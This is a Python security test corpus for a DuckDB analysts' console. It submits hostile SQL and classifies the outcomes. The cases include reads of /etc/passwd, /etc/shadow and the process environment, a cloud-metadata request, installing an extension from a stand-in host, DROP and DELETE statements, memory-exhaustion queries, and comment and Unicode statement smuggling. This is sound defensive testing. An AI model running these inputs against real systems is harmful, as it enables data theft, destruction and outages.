"""Hostile SQL for the analysts' console (benchlearn.sqlconsole): what each statement does.

Every case goes through `sqlconsole.run` exactly as the page sends it. Outcomes:
- "handled": refused with a reason (a ConsoleError whose code has a message in Latvian and
  English), stopped by a limit with a message (time, memory, result size), or a harmless read
  whose result shows no server path;
- "harmful": a write happened (a file named by a case appeared, or a write statement returned
  rows), the warehouse file changed or a file such as a write-ahead log appeared beside it, a
  file's content was read (/etc/passwd, the process environment, the warehouse's own bytes), a
  server path leaked into a result cell, a column name or a message, or an exception other
  than ConsoleError escaped (a traceback).
The memory workloads each grew the server by 1-4 GB before queries ran in a worker process
under a kernel memory limit.
"""

from __future__ import annotations

import hashlib
import traceback
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import duckdb

from benchlearn import sqlconsole
from benchlearn.i18n import has_text
from benchlearn.settings import REPO_ROOT, load_settings

# files a case tries to create; none may exist afterwards
WRITE_TARGETS = (
    "/tmp/benchlearn_hostile_out.csv",
    "/tmp/benchlearn_hostile_out.parquet",
    "/tmp/benchlearn_hostile.duckdb",
    "/tmp/benchlearn_hostile_dump",
    "/tmp/benchlearn_hostile_spill",
)
# text that only a read file can put into an answer
FILE_MARKERS = (
    ":x:0:0:",  # /etc/passwd
    "root:*:",  # /etc/shadow
    "PATH=/",  # /proc/self/environ
    "VmRSS:",  # /proc/self/status
    "PRETTY_NAME=",  # /etc/os-release
    "DUCK\x00",  # a DuckDB file's header
    "\\x00DUCK",
)

CASES: list[tuple[str, str]] = [
    # --- memory and time: each must stop with a message, the server must not grow
    ("mem_regexp_replace", "SELECT regexp_replace(repeat('a', 100000000), 'a', 'bb', 'g')"),
    (
        "mem_string_agg_200m",
        "SELECT string_agg(x::VARCHAR, ',') FROM generate_series(1, 200000000) t(x)",
    ),
    ("mem_list_500m", "SELECT list(x) FROM range(500000000) t(x)"),
    ("mem_repeat_1g", "SELECT length(repeat('a', 1000000000))"),
    ("mem_repeat_concat", "SELECT length(repeat('ab', 500000000) || 'x')"),
    ("mem_regexp_400m", "SELECT length(regexp_replace(repeat('a', 400000000), 'a', 'bb', 'g'))"),
    ("mem_lpad_2g", "SELECT length(lpad('x', 2000000000, 'y'))"),
    ("mem_array_agg_strings", "SELECT length(array_agg(repeat('x', 1000))) FROM range(2000000)"),
    (
        "mem_sort_300m",
        "SELECT max(n) FROM (SELECT row_number() OVER (ORDER BY hash(x)) AS n "
        "FROM range(300000000) t(x))",
    ),
    (
        "mem_group_by_300m",
        "SELECT count(*) FROM (SELECT x, count(*) FROM range(300000000) t(x) GROUP BY x)",
    ),
    (
        "mem_recursive_doubling",
        "WITH RECURSIVE r(s, n) AS (SELECT 'ab', 0 UNION ALL SELECT s || s, n + 1 FROM r "
        "WHERE n < 40) SELECT max(length(s)) FROM r",
    ),
    ("mem_unnest_range_1g", "SELECT unnest(range(1000000000)) LIMIT 5"),
    ("mem_string_split", "SELECT len(string_split(repeat('a,', 200000000), ','))"),
    ("mem_wide_result", "SELECT repeat('x', 1000000) AS big FROM range(100)"),
    ("time_hash_10g", "SELECT sum(hash(range)) FROM range(10000000000::bigint)"),
    ("time_cross_join", "SELECT count(*) FROM range(1e9::bigint) a, range(1e9::bigint) b"),
    (
        "time_recursive_forever",
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT max(n) FROM r",
    ),
    # --- server paths: no answer may show one
    ("path_duckdb_databases", "SELECT * FROM duckdb_databases()"),
    ("path_database_size", "SELECT * FROM pragma_database_size()"),
    ("path_settings", "SELECT name, value FROM duckdb_settings()"),
    ("path_home_directory", "SELECT current_setting('home_directory')"),
    ("path_temp_directory", "SELECT current_setting('temp_directory')"),
    ("path_secret_directory", "SELECT current_setting('secret_directory')"),
    ("path_extension_directory", "SELECT current_setting('extension_directory')"),
    (
        "path_allowed_paths",
        "SELECT current_setting('allowed_paths'), current_setting('allowed_directories')",
    ),
    ("path_file_search_path", "SELECT current_setting('file_search_path')"),
    ("path_extensions", "SELECT * FROM duckdb_extensions()"),
    ("path_meta", "SELECT * FROM meta"),
    ("path_meta_reversed", "SELECT key, reverse(value) FROM meta"),
    ("path_meta_base64", "SELECT key, to_base64(value::BLOB) FROM meta"),
    ("path_meta_replaced", "SELECT key, replace(value, '/', '|') FROM meta"),
    ("path_meta_hex", "SELECT key, hex(value) FROM meta"),
    ("path_meta_joined", "SELECT string_agg(value, ' ') FROM meta"),
    ("path_meta_as_column_name", 'SELECT value AS "/srv/x/y" FROM meta'),
    ("path_temporary_files", "SELECT * FROM duckdb_temporary_files()"),
    ("path_secrets", "SELECT * FROM duckdb_secrets()"),
    ("path_which_secret", "SELECT * FROM which_secret('s3://bucket/key', 's3')"),
    ("path_schemata", "SELECT * FROM information_schema.schemata"),
    ("path_schemas", "SELECT * FROM duckdb_schemas()"),
    ("path_views", "SELECT * FROM duckdb_views()"),
    ("path_fetch_log", "SELECT * FROM fetch_log"),
    ("path_sources", "SELECT * FROM sources"),
    ("path_source_files", "SELECT DISTINCT source_file FROM observations"),
    ("path_current_database", "SELECT current_database(), current_schema()"),
    ("path_user_agent", "SELECT * FROM pragma_user_agent()"),
    ("path_getenv", "SELECT getenv('HOME')"),
    ("path_python_traceback", "SELECT now()"),
    ("path_storage_info", "SELECT * FROM pragma_storage_info('meta')"),
    ("path_logs", "SELECT * FROM duckdb_logs()"),
    ("path_error_echo", "SELECT * FROM read_csv('/srv/benchlearn/data/x.csv')"),
    ("path_pragma_database_list", "PRAGMA database_list"),
    ("path_call_database_list", "CALL pragma_database_list()"),
    # --- writes
    ("write_drop", "DROP TABLE observations"),
    ("write_delete", "DELETE FROM observations"),
    ("write_update", "UPDATE indicators SET decimals = 9"),
    ("write_insert", "INSERT INTO meta VALUES ('x', 'y')"),
    ("write_create_table", "CREATE TABLE t AS SELECT 1"),
    ("write_create_temp", "CREATE TEMP TABLE t AS SELECT 1"),
    ("write_create_macro", "CREATE MACRO m() AS 1"),
    ("write_alter", "ALTER TABLE meta RENAME TO meta2"),
    ("write_checkpoint", "CHECKPOINT"),
    ("write_force_checkpoint", "SELECT * FROM force_checkpoint()"),
    ("write_checkpoint_function", "SELECT * FROM checkpoint()"),
    ("write_vacuum", "VACUUM"),
    ("write_in_query_function", "SELECT * FROM query('DELETE FROM meta')"),
    ("write_in_cte", "WITH d AS (DELETE FROM meta RETURNING *) SELECT * FROM d"),
    ("write_insert_in_cte", "WITH i AS (INSERT INTO meta VALUES ('x', 'y') RETURNING *) FROM i"),
    ("write_update_in_cte", "WITH u AS (UPDATE meta SET value = 'x' RETURNING *) FROM u"),
    ("write_begin", "BEGIN TRANSACTION"),
    ("write_detach", "DETACH warehouse"),
    ("write_use", "USE memory"),
    ("write_set_variable", "SET VARIABLE x = 1"),
    # --- file reads
    ("file_read_csv", "SELECT * FROM read_csv('/etc/passwd')"),
    ("file_read_text", "SELECT * FROM read_text('/etc/passwd')"),
    ("file_read_blob_shadow", "SELECT * FROM read_blob('/etc/shadow')"),
    ("file_read_json", "SELECT * FROM read_json('/etc/os-release')"),
    ("file_read_parquet", "SELECT * FROM read_parquet('/tmp/x.parquet')"),
    ("file_glob", "SELECT * FROM glob('/etc/*')"),
    ("file_glob_relative", "SELECT * FROM glob('*')"),
    ("file_sniff_csv", "SELECT * FROM sniff_csv('/etc/passwd')"),
    ("file_replacement_scan", "SELECT * FROM '/etc/passwd'"),
    ("file_environ", "SELECT * FROM read_text('/proc/self/environ')"),
    ("file_proc_status", "SELECT * FROM read_text('/proc/self/status')"),
    ("file_open_fd", "SELECT * FROM read_blob('/proc/self/fd/3')"),
    ("file_warehouse_relative", "SELECT * FROM read_blob('data/benchlearn.duckdb')"),
    ("file_warehouse_as_table", "SELECT * FROM 'data/benchlearn.duckdb'"),
    ("file_home", "SELECT * FROM read_text('~/.bash_history')"),
    ("file_list_of_files", "SELECT * FROM read_csv(['/etc/passwd', '/etc/group'])"),
    ("file_parquet_metadata", "SELECT * FROM parquet_metadata('/tmp/x.parquet')"),
    ("file_stdin", "SELECT * FROM read_csv('/dev/stdin')"),
    # --- extensions and the network
    ("ext_install", "INSTALL httpfs"),
    ("ext_load", "LOAD httpfs"),
    ("ext_force_install", "FORCE INSTALL httpfs"),
    ("ext_load_file", "LOAD '/tmp/evil.duckdb_extension'"),
    ("ext_install_from_url", "INSTALL evil FROM 'http://example.com'"),
    ("ext_update", "UPDATE EXTENSIONS"),
    ("ext_autoload_spatial", "SELECT * FROM st_read('/etc/passwd')"),
    ("ext_autoload_sqlite", "SELECT * FROM sqlite_scan('/tmp/x.db', 't')"),
    ("http_url_table", "SELECT * FROM 'https://example.com/data.csv'"),
    ("http_read_csv", "SELECT * FROM read_csv('http://127.0.0.1:8501/')"),
    ("http_s3_parquet", "SELECT * FROM read_parquet('s3://bucket/x.parquet')"),
    ("http_metadata", "SELECT * FROM read_text('http://169.254.169.254/latest/meta-data/')"),
    ("http_create_secret", "CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')"),
    # --- ATTACH
    ("attach_file", "ATTACH '/tmp/benchlearn_hostile.duckdb' AS other"),
    ("attach_memory", "ATTACH ':memory:' AS m"),
    ("attach_sqlite", "ATTACH 'sqlite:/tmp/benchlearn_hostile.duckdb' AS s"),
    ("attach_in_query", "SELECT * FROM query('ATTACH ''/tmp/benchlearn_hostile.duckdb''')"),
    ("attach_warehouse_again", "ATTACH 'data/benchlearn.duckdb' AS again"),
    # --- COPY and EXPORT
    ("copy_to", "COPY observations TO '/tmp/benchlearn_hostile_out.csv'"),
    ("copy_to_parquet", "COPY (SELECT 1) TO '/tmp/benchlearn_hostile_out.parquet'"),
    ("copy_from", "COPY meta FROM '/etc/passwd'"),
    ("copy_export", "EXPORT DATABASE '/tmp/benchlearn_hostile_dump'"),
    ("copy_import", "IMPORT DATABASE '/tmp/benchlearn_hostile_dump'"),
    ("copy_from_database", "COPY FROM DATABASE warehouse TO memory"),
    ("copy_in_query", "SELECT * FROM query('COPY meta TO ''/tmp/benchlearn_hostile_out.csv''')"),
    # --- pragmas and settings
    ("set_memory_limit", "SET memory_limit = '100GB'"),
    ("set_global_memory_limit", "SET GLOBAL memory_limit = '100GB'"),
    ("reset_memory_limit", "RESET memory_limit"),
    ("pragma_memory_limit", "PRAGMA memory_limit = '100GB'"),
    ("set_threads", "SET threads = 64"),
    ("set_external_access", "SET enable_external_access = true"),
    ("set_unlock", "SET lock_configuration = false"),
    ("set_temp_directory", "SET temp_directory = '/tmp/benchlearn_hostile_spill'"),
    ("set_temp_size", "SET max_temp_directory_size = '100GB'"),
    ("set_in_query", "SELECT * FROM query('SET memory_limit = ''100GB''')"),
    ("pragma_profiling", "PRAGMA enable_profiling"),
    ("read_memory_limit", "SELECT current_setting('memory_limit'), current_setting('threads')"),
    # --- several statements
    ("multi_two_selects", "SELECT 1; SELECT 2"),
    ("multi_drop", "SELECT 1; DROP TABLE observations"),
    ("multi_empty_between", "SELECT 1;;DROP TABLE units"),
    ("multi_newlines", "SELECT 1\n;\nATTACH '/tmp/benchlearn_hostile.duckdb' AS x"),
    ("multi_comment_between", "SELECT 1; /* x */ ; SELECT 2"),
    ("multi_trailing_comment", "SELECT 1; -- the end"),
    # --- comments hiding keywords
    ("comment_block_hides_drop", "SELECT 1 /* ; DROP TABLE units */"),
    ("comment_line_hides_drop", "SELECT 1 -- ; DROP TABLE units"),
    ("comment_before_drop", "/* harmless */ DROP TABLE units"),
    ("comment_line_before_delete", "-- read\nDELETE FROM meta"),
    ("comment_nested", "/* /* nested */ DROP TABLE units */ SELECT 1"),
    ("comment_mysql_style", "SELECT 1 /*! DROP TABLE units */"),
    ("comment_in_string", "SELECT ';DROP TABLE units' AS s"),
    ("comment_only", "-- nothing here"),
    # --- unicode tricks
    ("uni_fullwidth_semicolon", "SELECT 1；DROP TABLE units"),
    ("uni_zero_width_space", "SEL\u200bECT 1"),
    ("uni_zero_width_before_drop", "SELECT 1\u200b; DROP TABLE units"),
    ("uni_rtl_override", "SELECT 1 -- \u202e hidden"),
    ("uni_cyrillic_e", "SЕLECT 1"),
    ("uni_cyrillic_table", "SELECT * FROM оbservations"),
    ("uni_fullwidth_letters", "ＳＥＬＥＣＴ 1"),
    ("uni_no_break_space", "DROP\u00a0TABLE units"),
    ("uni_nul", "SELECT '\u0000'"),
    ("uni_bom", "\ufeffSELECT 1"),
    ("uni_greek_question_mark", "SELECT 1\u037e DROP TABLE units"),
    ("uni_line_separator", "SELECT 1\u2028DROP TABLE units"),
    ("uni_fullwidth_quote", "SELECT \uff07x\uff07"),
    ("uni_latvian_in_quotes", "SELECT name_lv FROM units WHERE name_lv = 'Ādažu novads'"),
    # --- the rest
    ("misc_too_long", "SELECT 1 " + "-" * 6000),
    ("misc_empty", "   "),
    ("misc_all_types", "SELECT * FROM test_all_types()"),
    ("misc_query_table", "SELECT * FROM query_table('meta')"),
    ("misc_error_function", "SELECT error('boom')"),
    ("misc_autocomplete", "SELECT * FROM sql_auto_complete('SELECT * FROM re')"),
    ("misc_functions", "SELECT function_name, description FROM duckdb_functions() LIMIT 50"),
    ("misc_explain", "EXPLAIN ANALYZE SELECT 1"),
    ("misc_pivot", "PIVOT units ON kind USING count(*)"),
    ("misc_truncated", "SELECT * FROM range(100000)"),
]


def server_paths(db: Path) -> list[str]:
    """Every server path an answer must not show: the warehouse, its folder, the repository,
    home, the sources, the Python packages, and what the warehouse's meta table records."""
    paths = {db, db.parent, db.resolve(), REPO_ROOT, load_settings().sources_dir}
    paths |= {Path(duckdb.__file__).parent, Path(traceback.__file__).parent}
    if str(Path.home()) != "/":
        paths.add(Path.home())
    con = duckdb.connect(str(db), read_only=True)
    try:
        meta = [v for (v,) in con.execute("SELECT value FROM meta").fetchall() if "/" in v]
    finally:
        con.close()
    texts = {str(p) for p in paths} | {m for m in meta if m.startswith("/")}
    return sorted(texts, key=len, reverse=True)


def _fingerprint(db: Path) -> tuple:
    stat = db.stat()
    digest = hashlib.sha256(db.read_bytes()).hexdigest()
    beside = sorted(p.name for p in db.parent.glob(db.name + "*"))  # a .wal, a .tmp copy
    return digest, stat.st_size, stat.st_mtime_ns, beside


def _texts(outcome: sqlconsole.Result | sqlconsole.ConsoleError) -> list[str]:
    if isinstance(outcome, sqlconsole.ConsoleError):
        return [outcome.detail] + [sqlconsole.error_text(outcome, lang) for lang in ("lv", "en")]
    frame = outcome.frame
    return [str(c) for c in frame.columns] + [str(v) for v in frame.to_numpy().ravel()]


def _judge(name: str, sql: str, db: Path, hidden: list[str]) -> tuple[str, str]:
    try:
        outcome: sqlconsole.Result | sqlconsole.ConsoleError = sqlconsole.run(db, sql)
    except sqlconsole.ConsoleError as error:
        outcome = error
        if not has_text(f"sql.err.{error.code}"):
            return "harmful", f"refused without a message: {error.code}"
    except Exception:  # a crash is what this corpus is here to find
        return "harmful", "traceback: " + traceback.format_exc(limit=2).strip().splitlines()[-1]
    for text in _texts(outcome):
        for path in hidden:
            if path in text:
                return "harmful", f"path leaked: {path!r} in {text[:200]!r}"
        for marker in FILE_MARKERS:
            if marker in text:
                return "harmful", f"file content: {marker!r} in {text[:200]!r}"
    if isinstance(outcome, sqlconsole.ConsoleError):
        return "handled", f"{outcome.code}: {outcome.detail[:120]}"
    if name.startswith("write_") and len(outcome.frame):
        return "harmful", f"a write returned rows: {outcome.frame.iloc[0].tolist()}"
    return "handled", f"read {len(outcome.frame)} rows, no path"


def _case(name: str, sql: str, db: Path, hidden: list[str], before: tuple) -> tuple:
    outcome, detail = _judge(name, sql, db, hidden)
    written = [target for target in WRITE_TARGETS if Path(target).exists()]
    after = _fingerprint(db)
    if written:
        outcome, detail = "harmful", f"wrote {written}"
    elif after[:3] != before[:3]:
        outcome, detail = "harmful", "the warehouse file changed"
    elif after[3] != before[3]:
        new = sorted(set(after[3]) ^ set(before[3]))
        outcome, detail = "harmful", f"files beside the warehouse changed: {new}"
    return name, outcome, detail


def run_all(db_path: str | Path) -> list[tuple[str, str, str]]:
    """(case, outcome, detail) for every case in CASES, in order, against the warehouse at
    `db_path` (which must come out byte-for-byte the same). Two cases run at a time, as two
    sessions would (the console's MAX_RUNNING); writes and changes are checked after every
    case: with two running one may be blamed on its neighbour, but none is missed."""
    db = Path(db_path)
    hidden = server_paths(db)
    for target in WRITE_TARGETS:
        assert not Path(target).exists(), f"{target} exists before the corpus runs"
    before = _fingerprint(db)
    with ThreadPoolExecutor(max_workers=sqlconsole.MAX_RUNNING) as pool:
        futures = [pool.submit(_case, name, sql, db, hidden, before) for name, sql in CASES]
        return [future.result() for future in futures]
